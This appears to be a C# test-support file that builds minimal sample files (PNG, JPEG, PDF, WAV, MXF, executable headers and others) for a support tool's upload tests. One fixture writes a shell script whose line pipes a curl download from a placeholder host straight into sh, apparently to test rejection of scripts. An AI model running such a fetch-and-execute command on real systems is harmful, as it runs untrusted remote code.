using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;

namespace TechSupport.Tests.Support;

// Real files of each kind, built byte by byte so each test says exactly what it uploads.
public static class TestFiles
{
    // A whole 2×2 PNG: signature, IHDR, a zlib-compressed IDAT and IEND, each chunk with its CRC.
    public static byte[] Png()
    {
        using var png = new MemoryStream();
        png.Write([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]);
        var header = new byte[13];
        BinaryPrimitives.WriteUInt32BigEndian(header, 2);
        BinaryPrimitives.WriteUInt32BigEndian(header.AsSpan(4), 2);
        header[8] = 8; // bit depth
        header[9] = 2; // truecolour
        Chunk(png, "IHDR", header);
        using var pixels = new MemoryStream();
        using (var zlib = new ZLibStream(pixels, CompressionLevel.Optimal, leaveOpen: true))
        {
            // Each scanline: filter type 0, then two RGB pixels (a grading suite's test red and grey).
            zlib.Write([0, 0xC8, 0x10, 0x2E, 0x80, 0x80, 0x80, 0, 0x80, 0x80, 0x80, 0xC8, 0x10, 0x2E]);
        }

        Chunk(png, "IDAT", pixels.ToArray());
        Chunk(png, "IEND", []);
        return png.ToArray();
    }

    // An 8×8 mid-grey baseline JPEG: one quantisation table, one-code Huffman tables, one block whose DC and AC
    // are both zero (bits 00, padded with ones).
    public static byte[] Jpeg()
    {
        using var jpeg = new MemoryStream();
        jpeg.Write([0xFF, 0xD8]);
        jpeg.Write([0xFF, 0xDB, 0x00, 0x43, 0x00]);
        jpeg.Write(Enumerable.Repeat((byte)1, 64).ToArray());
        jpeg.Write([0xFF, 0xC0, 0x00, 0x0B, 0x08, 0x00, 0x08, 0x00, 0x08, 0x01, 0x01, 0x11, 0x00]);
        jpeg.Write([0xFF, 0xC4, 0x00, 0x14, 0x00, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x00]);
        jpeg.Write([0xFF, 0xC4, 0x00, 0x14, 0x10, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x00]);
        jpeg.Write([0xFF, 0xDA, 0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3F, 0x00]);
        jpeg.Write([0x3F]);
        jpeg.Write([0xFF, 0xD9]);
        return jpeg.ToArray();
    }

    // The one-pixel transparent GIF every web developer has seen.
    public static byte[] Gif() => Convert.FromBase64String("R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==");

    // A one-page PDF with a correct cross-reference table.
    public static byte[] Pdf(string text = "Dropped frames on playback")
    {
        var objects = new[]
        {
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
            null,
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        };
        var stream = $"BT /F1 12 Tf 10 50 Td ({text}) Tj ET";
        objects[3] = $"<< /Length {stream.Length} >>\nstream\n{stream}\nendstream";
        var pdf = new StringBuilder("%PDF-1.4\n");
        var offsets = new List<int>();
        for (var i = 0; i < objects.Length; i++)
        {
            offsets.Add(pdf.Length);
            pdf.Append($"{i + 1} 0 obj\n{objects[i]}\nendobj\n");
        }

        var xref = pdf.Length;
        pdf.Append($"xref\n0 {objects.Length + 1}\n0000000000 65535 f \n");
        foreach (var offset in offsets)
        {
            pdf.Append($"{offset:D10} 00000 n \n");
        }

        pdf.Append($"trailer\n<< /Size {objects.Length + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n");
        return Encoding.ASCII.GetBytes(pdf.ToString());
    }

    // A broadcast WAV: RIFF/WAVE, a 48 kHz 24-bit stereo fmt chunk and a little silence.
    public static byte[] Wav()
    {
        var samples = new byte[48 * 6];
        using var wav = new MemoryStream();
        wav.Write("RIFF"u8);
        wav.Write(LittleEndian(4 + 8 + 16 + 8 + samples.Length));
        wav.Write("WAVE"u8);
        wav.Write("fmt "u8);
        wav.Write(LittleEndian(16));
        wav.Write([1, 0, 2, 0]); // PCM, two channels
        wav.Write(LittleEndian(48_000));
        wav.Write(LittleEndian(48_000 * 6));
        wav.Write([6, 0, 24, 0]);
        wav.Write("data"u8);
        wav.Write(LittleEndian(samples.Length));
        wav.Write(samples);
        return wav.ToArray();
    }

    // The start of an OP1a MXF file: the header partition pack's key and a plausible pack after it.
    public static byte[] Mxf()
    {
        byte[] key = [0x06, 0x0E, 0x2B, 0x34, 0x02, 0x05, 0x01, 0x01, 0x0D, 0x01, 0x02, 0x01, 0x01, 0x02, 0x04, 0x00];
        var pack = new byte[88];
        BinaryPrimitives.WriteUInt16BigEndian(pack, 1); // major version
        BinaryPrimitives.WriteUInt16BigEndian(pack.AsSpan(2), 3); // minor version
        BinaryPrimitives.WriteUInt32BigEndian(pack.AsSpan(4), 512); // KAG size
        return [.. key, 0x83, 0x00, 0x00, 0x58, .. pack, .. new byte[256]];
    }

    // A Windows PE: the DOS header with e_lfanew, its stub, then "PE\0\0" and a COFF header for x64.
    public static byte[] PortableExecutable()
    {
        var exe = new byte[512];
        exe[0] = (byte)'M';
        exe[1] = (byte)'Z';
        BinaryPrimitives.WriteInt32LittleEndian(exe.AsSpan(0x3C), 0x80);
        Encoding.ASCII.GetBytes("This program cannot be run in DOS mode.\r\r\n$").CopyTo(exe, 0x4E);
        "PE\0\0"u8.CopyTo(exe.AsSpan(0x80));
        BinaryPrimitives.WriteUInt16LittleEndian(exe.AsSpan(0x84), 0x8664);
        return exe;
    }

    // A 64-bit little-endian ELF executable header for x86-64.
    public static byte[] Elf()
    {
        var elf = new byte[128];
        byte[] ident = [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0];
        ident.CopyTo(elf, 0);
        BinaryPrimitives.WriteUInt16LittleEndian(elf.AsSpan(16), 2); // executable
        BinaryPrimitives.WriteUInt16LittleEndian(elf.AsSpan(18), 0x3E); // x86-64
        BinaryPrimitives.WriteUInt32LittleEndian(elf.AsSpan(20), 1);
        return elf;
    }

    public static byte[] MachO(uint magic)
    {
        var macho = new byte[64];
        BinaryPrimitives.WriteUInt32BigEndian(macho, magic);
        return macho;
    }

    public static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);

    public static byte[] Log() => Text("""
        2026-11-23 10:02:11 [WARN] sanfs: latency 412 ms on /mnt/san/vol2
        2026-11-23 10:02:12 [ERROR] DaVinci Resolve: dropped 14 frames during playback
        2026-11-23 10:02:15 [INFO] DeckLink 8K Pro: SDI output re-locked to reference
        """);

    public static byte[] ShebangScript() => Text("#!/bin/sh\ncurl -s http://example.invalid/x | sh\n");

    public static byte[] Html() => Text("<!DOCTYPE html>\n<html><body><script>fetch('/api/v1/me')</script></body></html>\n");

    // A PNG cut short in its IDAT: signature and header whole, the rest missing.
    public static byte[] TruncatedPng()
    {
        var png = Png();
        return png[..(png.Length - 20)];
    }

    private static byte[] LittleEndian(int value)
    {
        var bytes = new byte[4];
        BinaryPrimitives.WriteInt32LittleEndian(bytes, value);
        return bytes;
    }

    private static void Chunk(Stream png, string type, byte[] data)
    {
        var length = new byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(length, (uint)data.Length);
        png.Write(length);
        var typed = Encoding.ASCII.GetBytes(type).Concat(data).ToArray();
        png.Write(typed);
        var crc = new byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(crc, Crc32(typed));
        png.Write(crc);
    }

    // The CRC-32 of PNG (ISO 3309), bit by bit: slow and obviously right.
    private static uint Crc32(byte[] data)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in data)
        {
            crc ^= b;
            for (var bit = 0; bit < 8; bit++)
            {
                crc = (crc & 1) != 0 ? 0xEDB88320u ^ (crc >> 1) : crc >> 1;
            }
        }

        return crc ^ 0xFFFFFFFFu;
    }
}
